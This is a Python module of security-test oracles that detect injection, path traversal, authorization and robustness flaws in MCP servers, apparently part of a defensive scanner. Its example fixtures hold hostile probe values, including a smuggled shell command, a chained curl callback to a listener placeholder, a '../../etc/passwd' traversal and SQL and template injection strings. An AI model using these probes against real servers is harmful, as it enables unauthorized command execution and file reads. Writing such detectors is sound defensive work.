"""Oracles of calls of an MCP server: answers, arguments that do not fit, attacks by their effect. Pure.

An attack is judged beside its control, the same call without it.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass
from functools import reduce
from typing import Any

from fleet.oracles.agent.mcp_servers import CALL, at, definitions, exchange, is_list, oracle
from fleet.oracles.documents.json_schema import REQUIRED, misfits
from fleet.oracles.model import Exchange, Facts, Observation, observed
from fleet.oracles.web import traces
from fleet.oracles.web.injections import COMMAND, KNOWN_FILES, PAIR, PRODUCT, RUN, computed, told_listener
from fleet.oracles.web.variations import neutral
from fleet.severity import Severity
from fleet.text import line
from sandbox.tools.qa_mcp import ALIKE, USED_UP

_FAILURE = re.compile(
    r"(?i)\b(?:error|invalid|must|required|expected|fail(?:ed|ure)?|missing|unknown"
    r"|not (?:found|valid|allowed|supported)|exception|cannot|can't|unable|refused|denied)\b"
)
"""What a tool says that failed, whether or not it says so by `isError`."""
_OWN = re.compile(r"(?i)handle|session|draft|cart|basket|upload|workspace|scratch")
"""Arguments that name what is its maker's, whatever a server is for."""
_SCHEMA = {
    "type": "object",
    "properties": {"metres": {"type": "number", "maximum": 60}},
    "required": ["metres"],
}
_OUT = {"type": "object", "properties": {"price": {"type": "number"}}, "required": ["price"]}
_LISTED = exchange({"tools": [{"name": "price", "inputSchema": _SCHEMA, "outputSchema": _OUT}]})


def _call(result: Mapping[str, Any], name: str = "price", **arguments: object) -> Exchange:
    return exchange(result, method=CALL, name=name, arguments=arguments)


def _thing(call: Exchange) -> str:
    kinds = {CALL: "tool", "prompts/get": "prompt", "resources/read": "resource"}
    return f"{kinds.get(str(call.args.get('method')), '')} {call.args.get('name', '')}".strip()


def _brief(wanted: str) -> str:
    """What a schema wants, in fewer words."""
    return line(wanted.replace("a value of type", "of type"), 40)


def _shown(call: Exchange) -> str:
    """The whole of an answer, as a text."""
    whole = [call.result.get("text") or "", call.result.get("error") or ""]
    return "\n".join([*map(str, whole), json.dumps(call.result.get("structured"), ensure_ascii=False)])


def _flat(arguments: object, above: str = "") -> Iterator[tuple[str, Any]]:
    """The plain values of arguments by `outer.inner`."""
    for key, value in arguments.items() if isinstance(arguments, Mapping) else ():
        if isinstance(value, Mapping) and value:
            yield from _flat(value, f"{above}{key}.")
        else:
            yield f"{above}{key}", value


@dataclass(frozen=True, slots=True)
class McpInput:
    """The one argument in which calls differ, with its values, and what they call."""

    thing: str
    argument: str
    values: tuple[str, ...]

    @classmethod
    def of(cls, seen: Sequence[Exchange]) -> McpInput | None:
        """None unless the calls differ in one text alone; of a resource, in its URI."""
        calls = [one.args for one in seen if one.args.get("method")]
        if len(calls) < 2 or len(calls) != len(seen) or len({str(one["method"]) for one in calls}) > 1:
            return None
        if calls[0]["method"] == "resources/read":
            names = tuple(str(one.get("name", "")) for one in calls)
            stem = names[0].rpartition("/")[0]
            return cls(f"resource {stem}/", "URI", names) if names[0] != names[-1] else None
        given = [dict(_flat(one.get("arguments"))) for one in calls]
        same = (
            len({str(one.get("name")) for one in calls}) == 1 and len({frozenset(one) for one in given}) == 1
        )
        differ = (
            [key for key in given[0] if any(one.get(key) != given[0][key] for one in given)] if same else []
        )
        values = tuple(one.get(differ[0]) for one in given) if len(differ) == 1 else ()
        if not values or not all(isinstance(one, str) for one in values):
            return None
        return cls(_thing(seen[-1]), differ[0], tuple(map(str, values)))

    def observed(
        self, seen: Sequence[Exchange], what: str, key: str, *, led: tuple[int, ...] = (0,)
    ) -> Observation:
        """An observation at this argument."""
        where = {"route": at(seen, self.thing), "parameter": f"argument {self.argument}"}
        title = f"{at(seen, self.thing)}, {line(self.argument, 30)}: {what}"
        return observed(title, f"{key} {self.thing} {self.argument}", "text", led=led, where=where)


def _computed(seen: Sequence[Exchange], form: re.Pattern[str]) -> tuple[McpInput, str] | None:
    """The input and the product that the last answer alone has, though nobody sent it."""
    found = McpInput.of((seen[0], seen[-1])) if len(seen) > 1 else None
    if found is None:
        return None
    sent = json.dumps([dict(each.args) for each in seen], default=str)
    product = computed(found.values[-1], form, sent, _shown(seen[-1]), _shown(seen[0]))
    return (found, product) if product else None


@oracle(
    id="mcp-command",
    says="a command in an argument is text and is not run",
    severity=Severity.CRITICAL,
    example=(
        _call({"text": "tides of qa"}, port="qa"),
        _call({"text": "tides of qa 2021027"}, port="qa $(expr 1009 \\* 2003)"),
    ),
    control=(
        _call({"text": "tides of qa"}, port="qa"),
        _call({"text": "tides of qa $(expr 1009 \\* 2003)"}, port="qa $(expr 1009 \\* 2003)"),
    ),
)
def mcp_command(seen: Sequence[Exchange], _facts: Facts) -> Iterator[Observation]:
    if found := _computed(seen, COMMAND):
        yield found[0].observed(seen, f"a command in it prints {found[1]}", "mcp-command")


def _hearing(*heard: str) -> tuple[Exchange, ...]:
    at_ = "{listener}/qah0123456789ab"
    return (_call({"text": "tides"}, map="qa"), _call({"text": "tides", "heard": list(heard)}, map=at_))


@oracle(
    id="mcp-listener",
    says="a tool asks for no address of its own machine or network that its caller names",
    severity=Severity.HIGH,
    example=_hearing("qah0123456789ab"),
    control=_hearing(),
)
def mcp_listener(seen: Sequence[Exchange], _facts: Facts) -> Iterator[Observation]:
    if (found := _told(seen)) and not RUN.search(found.values[-1]):
        yield found.observed(seen, "the server asks for an address sent there", "mcp-listener")


@oracle(
    id="mcp-listener-command",
    says="a command in an argument is text and is not run, whatever of its output is shown",
    severity=Severity.CRITICAL,
    example=(
        _call({"text": "tides"}, port="qa"),
        _call({"text": "tides", "heard": ["qah0123456789ab"]}, port="qa;curl -s {listener}/qah0123456789ab;"),
    ),
    control=(
        _call({"text": "tides"}, port="qa"),
        _call({"text": "tides", "heard": []}, port="qa;curl -s {listener}/qah0123456789ab;"),
    ),
)
def mcp_listener_command(seen: Sequence[Exchange], _facts: Facts) -> Iterator[Observation]:
    if (found := _told(seen)) and RUN.search(found.values[-1]):
        yield found.observed(seen, "a command in it, curl, is run", "mcp-listener-command")


def _told(seen: Sequence[Exchange]) -> McpInput | None:
    """The input whose last value alone named the listener, if it was asked."""
    found = McpInput.of((seen[0], seen[-1])) if len(seen) > 1 else None
    return found if found and told_listener(found.values[-1], seen[-1].result) else None


@oracle(
    id="mcp-expression",
    says="an expression in an argument is text and is not computed",
    severity=Severity.CRITICAL,
    example=(
        _call({"text": "Hello qa"}, crew="qa"),
        _call({"text": "Hello qa2021027"}, crew="qa{{1009*2003}}"),
    ),
    control=(
        _call({"text": "Hello qa"}, crew="qa"),
        _call({"text": "Hello qa{{1009*2003}}"}, crew="qa{{1009*2003}}"),
    ),
)
def mcp_expression(seen: Sequence[Exchange], _facts: Facts) -> Iterator[Observation]:
    last = str(seen[-1].args.get("arguments"))
    if not COMMAND.search(last) and (found := _computed(seen, PRODUCT)):
        yield found[0].observed(seen, f"an expression in it is computed to {found[1]}", "mcp-expression")


@oracle(
    id="mcp-climb",
    says="an argument or a URI never reads a file beside those that are served",
    severity=Severity.CRITICAL,
    example=(
        _call({"text": "Welcome."}, file="welcome.txt"),
        _call({"text": "root:x:0:0:root:/root:/bin/sh"}, file="../../etc/passwd"),
    ),
    control=(
        _call({"text": "Welcome."}, file="welcome.txt"),
        _call({"ok": False, "text": "no such notice"}, file="../../etc/passwd"),
    ),
)
def mcp_climb(seen: Sequence[Exchange], _facts: Facts) -> Iterator[Observation]:
    found = McpInput.of((seen[0], seen[-1])) if len(seen) > 1 else None
    climbs = found is not None and re.search(r"(?i)/|%2f", found.values[-1])
    for name, content in KNOWN_FILES if climbs else ():
        if found and content.search(_shown(seen[-1])) and not content.search(_shown(seen[0])):
            yield found.observed(seen, f"it reads {name}", "mcp-climb")


_TRUE, _FALSE = "moss' OR '1'='1", "moss' OR '1'='2"
_NONE, _ALL = {"ok": False, "text": "no such boat"}, {"text": "Moss\nGull"}


def _boats(*answers: Mapping[str, Any]) -> tuple[Exchange, ...]:
    values = ("moss", _TRUE, _FALSE, _TRUE, _FALSE)
    return tuple(_call(got, name="boats", boat=value) for got, value in zip(answers, values, strict=True))


@oracle(
    id="mcp-condition",
    says="a condition in an argument is text, true or false",
    severity=Severity.CRITICAL,
    example=_boats(_NONE, _ALL, _NONE, _ALL, _NONE),
    control=_boats(_NONE, _NONE, _NONE, _NONE, _NONE),
)
def mcp_condition(seen: Sequence[Exchange], _facts: Facts) -> Iterator[Observation]:
    """[value, with a true condition, with a false one, true again, false again]."""
    found = McpInput.of(seen) if len(seen) == 5 else None
    if found is None or found.values[1:3] != found.values[3:5]:
        return
    pairs = [PAIR.search(value) for value in found.values[:3]]
    if [one and (one[1] or one[3]) == (one[2] or one[4]) for one in pairs] != [None, True, False]:
        return
    sent = sorted(set(found.values), key=len, reverse=True)  # an answer may show what was stored before
    shown = (reduce(neutral, sent, _shown(each)) for each in seen)
    plain, true, false, true_again, false_again = shown
    same, other = (false, true) if " or " in found.values[1].lower() else (true, false)
    if true == true_again and false == false_again and same == plain and other != plain:
        what = "true and false conditions answer differently"
        yield found.observed(seen, what, "mcp-condition", led=(0, 1, 2, 3))


@oracle(
    id="mcp-output",
    says="structured content fits the schema that its tool states",
    severity=Severity.MEDIUM,
    example=(_LISTED, _call({"structured": {"price": "7 EUR"}}, metres=3)),
    control=(_LISTED, _call({"structured": {"price": 7.5}}, metres=3)),
)
def mcp_output(seen: Sequence[Exchange], _facts: Facts) -> Iterator[Observation]:
    """[the lists, a call]: tools, "Servers MUST provide structured results that conform to this schema"."""
    last = seen[-1]
    schema = definitions(seen[:-1]).get(str(last.args.get("name")), {}).get("outputSchema")
    if (
        last.args.get("method") != CALL
        or last.result.get("ok") is not True
        or not isinstance(schema, Mapping)
    ):
        return
    thing, shown = _thing(last), last.result.get("structured")
    wrong = "answers without structured content" if shown is None else ""
    for place, wanted in () if shown is None or last.result.get("cut") else misfits(shown, schema, schema):
        name = line(place, 40) or "its answer"
        wrong = wrong or (
            f"lacks {name}" if wanted == REQUIRED else f"answers: {name} is not {_brief(wanted)}"
        )
    if wrong:
        where = {"route": at(seen, thing)}
        yield observed(
            f"{at(seen, thing)} {wrong}", f"mcp-output {thing}", "structured", led=(0,), where=where
        )


@oracle(
    id="mcp-input",
    says="a tool refuses arguments that do not fit its schema",
    severity=Severity.LOW,
    example=(_LISTED, _call({"text": "7.5 EUR"}, metres=3), _call({"text": "20 EUR"}, metres={"qa": 1})),
    control=(
        _LISTED,
        _call({"text": "7.5 EUR"}, metres=3),
        _call({"ok": False, "is_error": True, "text": "metres is not a number"}, metres={"qa": 1}),
    ),
)
def mcp_input(seen: Sequence[Exchange], _facts: Facts) -> Iterator[Observation]:
    """[the lists, a call that fits, one that does not]: tools, "Servers MUST validate all tool inputs".

    A value that a lax reader may convert (a number as a text, a text as a list of one) is none of these.
    """
    last, good = seen[-1], seen[-2] if len(seen) > 2 else None
    schema = definitions(seen[:-1]).get(str(last.args.get("name")), {}).get("inputSchema")
    if (
        good is None
        or not isinstance(schema, Mapping)
        or any(one.args.get("method") != CALL for one in (good, last))
    ):
        return
    given, fits = (dict(one.args.get("arguments") or {}) for one in (last, good))
    wrong = list(misfits(given, schema, schema))
    taken = good.result.get("ok") is True and last.result.get("ok") is True
    if not taken or list(misfits(fits, schema, schema)) or len(wrong) != 1 or _FAILURE.search(_shown(last)):
        return
    place, wanted = wrong[0]
    name = place.strip("/").partition("/")[0]
    if wanted.startswith("a value of type") and not isinstance(given.get(name), dict):
        return
    thing = _thing(last)
    shown = line(name, 30)
    what = f"{shown} is not {_brief(wanted)}" if name in given else f"it succeeds without {shown}"
    title, where = f"{at(seen, thing)}: {what}", {"route": at(seen, thing)}
    yield observed(title, f"mcp-input {thing}", "text", led=(0, 1), where=where)


def _asked(state: str, **result: object) -> Exchange:
    said = {"asks_input": True, "text": "berth 3 is yours", **result}
    return exchange(said, method=CALL, name="book", arguments={}, state=state)


@oracle(
    id="mcp-state",
    says="a requestState is taken as it was handed out, from whom it was handed to",
    severity=Severity.HIGH,
    example=(_asked("own"), _asked("altered")),
    control=(_asked("own"), _asked("altered", ok=False, code=-32602)),
)
def mcp_state(seen: Sequence[Exchange], _facts: Facts) -> Iterator[Observation]:
    """[a call that goes on with its own state, one with another's or a changed one]: patterns/mrtr, "Servers
    MUST reject state that fails verification"."""
    last, own = seen[-1], seen[-2] if len(seen) > 1 else None
    how = {"altered": "a changed requestState", "other": "another caller's requestState"}
    what = how.get(str(last.args.get("state") or ""))
    if what is None or own is None or own.args.get("state") != "own":
        return
    if all(one.result.get("ok") is True and one.result.get("asks_input") is True for one in (own, last)):
        thing = _thing(last)
        title, where = f"{at(seen, thing)} goes on with {what}", {"route": at(seen, thing)}
        yield observed(
            title, f"mcp-state {thing} {what}", "ok", "asks_input", led=(len(seen) - 2,), where=where
        )


_NOBODY = exchange({"ok": False, "status": 401})


def _handle(after: str, listed: str = "maker") -> Exchange:
    then = {"then": "show", "then_argument": "draft"}
    given = {"url": "{site}/mcp", "method": CALL, "name": "draft", "arguments": {}, "caller": "one"}
    return Exchange("qa_mcp", given | then, {"ok": True, "foreign": after, "listed": listed})


@oracle(
    id="mcp-handle",
    says="what a tool hands out to one caller is of no use to another",
    severity=Severity.HIGH,
    example=(_NOBODY, _handle(ALIKE)),
    control=(_NOBODY, _handle("the other is refused")),
)
def mcp_handle(seen: Sequence[Exchange], _facts: Facts) -> Iterator[Observation]:
    """[the lists as nobody, refused; a call whose handle its maker and another account show].

    A thing that all may see is none: its maker alone is shown it in a list, or it is by its name one's own.
    """
    last = seen[-1]
    apart = [
        place
        for place, one in enumerate(seen[:-1])
        if is_list(one) and one.result.get("status") in (401, 403)
    ]
    argument, listed = str(last.args.get("then_argument") or ""), last.result.get("listed")
    own = listed == "maker" or (not listed and _OWN.search(argument))
    if apart and own and last.result.get("foreign") in (ALIKE, USED_UP):
        thing = f"tool {last.args.get('then', '')}"
        title = f"{at(seen, thing)}, {line(argument, 30)}: another caller may show it"
        where = {"route": at(seen, thing), "parameter": f"argument {argument}"}
        yield observed(title, f"mcp-handle {thing} {argument}", "foreign", led=(apart[0],), where=where)


_NOTE = "desk://notes/7"


def _read(who: str, **result: object) -> Exchange:
    return exchange({"text": "buy moss", **result}, method="resources/read", name=_NOTE, caller=who)


_THEIRS = exchange({"resources": []}, caller="other")


@oracle(
    id="mcp-foreign-resource",
    says="a resource that is listed to its owner alone is read by nobody else",
    severity=Severity.HIGH,
    example=(_NOBODY, _THEIRS, _read("one"), _read("other")),
    control=(_NOBODY, _THEIRS, _read("one"), _read("other", ok=False, code=-32602, text="")),
)
def mcp_foreign_resource(seen: Sequence[Exchange], _facts: Facts) -> Iterator[Observation]:
    """[the lists as nobody, refused; the other account's lists; a resource as the one, and as the other]."""
    if len(seen) < 4 or any(one.args.get("method") != "resources/read" for one in seen[-2:]):
        return
    nobody, theirs, own, last = seen[-4:]
    uri = str(last.args.get("name") or "")
    listed = [one.get("uri") for one in theirs.result.get("resources") or () if isinstance(one, Mapping)]
    apart = is_list(nobody) and nobody.result.get("status") in (401, 403) and not theirs.result.get("cut")
    callers = [one.args.get("caller") for one in (theirs, own, last)] == ["other", "one", "other"]
    both = all(one.result.get("ok") is True and one.args.get("name") == uri for one in (own, last))
    same = bool(_shown(last)) and _shown(last) == _shown(own)
    if apart and callers and theirs.result.get("ok") is True and uri not in listed and both and same:
        thing = f"resource {uri.rpartition('/')[0]}/"
        where = {"route": at(seen, thing), "parameter": "URI"}
        title = f"{at(seen, thing)} is read by both"
        places = tuple(range(len(seen) - 4, len(seen) - 1))
        yield observed(title, f"mcp-foreign-resource {thing}", "text", led=places, where=where)


@oracle(
    id="mcp-trace",
    says="an answer shows nothing of the inside of its server",
    severity=Severity.MEDIUM,
    words=True,
    example=(
        _call(
            {
                "ok": False,
                "is_error": True,
                "text": 'Traceback (most recent call last):\n  File "/srv/a.py", line 3, in f\n',
            }
        ),
    ),
    control=(_call({"ok": False, "is_error": True, "text": "no such notice"}),),
)
def mcp_trace(seen: Sequence[Exchange], _facts: Facts) -> Iterator[Observation]:
    last = seen[-1]
    if last.result.get("ok") is not False or not last.args.get("method"):
        return
    text = f"{last.result.get('text') or ''}\n{last.result.get('error') or ''}"
    found = traces.find(text, paths=False)
    if (
        found
        and found.table != "paths"
        and found.kind not in traces.MILD
        and found.words not in str(last.args)
    ):
        title = f"{at(seen, _thing(last))} shows {found.kind}"
        yield observed(title, f"mcp-trace {_thing(last)} {found.kind}", "text", where={"trace": title})


@oracle(
    id="mcp-hangs",
    says="a call ends",
    severity=Severity.MEDIUM,
    example=(_call({"text": "tides"}, port="qa"), _call({"ok": False, "hung": True}, port="")),
    control=(_call({"text": "tides"}, port="qa"), _call({"ok": False, "hung": False}, port="")),
)
def mcp_hangs(seen: Sequence[Exchange], _facts: Facts) -> Iterator[Observation]:
    """[a call that ends, one that does not, of another text]: a number may say how long it takes."""
    found = McpInput.of((seen[-2], seen[-1])) if len(seen) > 1 else None
    if found and seen[-1].result.get("hung") is True and seen[-2].result.get("ok") is True:
        thing = found.thing
        title = f"{at(seen, thing)}, {line(found.argument, 30)}: a call has no answer, the next one has"
        where = {"route": at(seen, thing), "parameter": f"argument {found.argument}"}
        yield observed(
            title, f"mcp-hangs {thing} {found.argument}", "hung", led=(len(seen) - 2,), where=where
        )


@oracle(
    id="mcp-stalls",
    says="no call keeps the server from answering others",
    severity=Severity.HIGH,
    example=(
        _call({"text": "tides"}, name="find"),
        _call({"ok": False, "stalled": True}, name="find", text="a"),
    ),
    control=(
        _call({"text": "tides"}, name="find"),
        _call({"ok": False, "stalled": False}, name="find", text="a"),
    ),
)
def mcp_stalls(seen: Sequence[Exchange], _facts: Facts) -> Iterator[Observation]:
    """[a call that ends, one after which nobody is answered for a while]."""
    if len(seen) > 1 and seen[-1].result.get("stalled") is True and seen[-2].result.get("ok") is True:
        thing, led = _thing(seen[-1]), (len(seen) - 2,)
        title = f"{at(seen, thing)}: one call, and no other is answered"
        yield observed(title, f"mcp-stalls {thing}", "stalled", led=led, where={"route": at(seen, thing)})


@oracle(
    id="mcp-ends",
    says="no call ends the server",
    severity=Severity.HIGH,
    example=(_call({"ok": False, "ended": True}, name="log"),),
    control=(_call({"ok": False, "ended": False}, name="log"),),
)
def mcp_ends(seen: Sequence[Exchange], _facts: Facts) -> Iterator[Observation]:
    if seen[-1].result.get("ended") is True:
        thing = _thing(seen[-1])
        title = f"{at(seen, thing)}: after one call no caller is answered"
        yield observed(title, f"mcp-ends {thing}", "ended", where={"crash": at(seen, thing)})
